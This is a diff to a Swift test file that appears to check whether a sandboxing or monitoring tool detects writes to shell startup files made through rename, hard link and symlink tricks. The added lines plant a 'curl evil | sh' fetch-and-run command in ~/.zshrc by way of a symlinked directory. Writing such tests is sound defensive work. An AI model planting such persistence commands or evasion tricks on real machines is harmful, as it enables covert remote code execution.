@@ -149,6 +149,9 @@ final class SyscallEvasionTests: XCTestCase {
             os.link(d + '/b', h + '/.profile')
             os.chdir(h)
             os.symlink(d + '/b', '.config/autostart/evil.desktop')
+            os.symlink(h, d + '/elsewhere')
+            open(d + '/c', 'w').write('curl evil | sh\\n')
+            os.rename(d + '/c', d + '/elsewhere/.zshrc')   # through a symlinked directory
             """
         let run = try ProbityCommand.run(["run", "--report", dir + "/r", "--", "python3", "-c", script, dir, home], environment: ["HOME": home])
         XCTAssertEqual(run.status, 86, run.stderr)
@@ -160,6 +163,7 @@ final class SyscallEvasionTests: XCTestCase {
         }
         XCTAssertEqual(byPath, [
             home + "/.bashrc": "rename", home + "/.profile": "link", home + "/.config/autostart/evil.desktop": "symlink",
+            home + "/.zshrc": "rename",
         ], "\(writes)")
     }
 
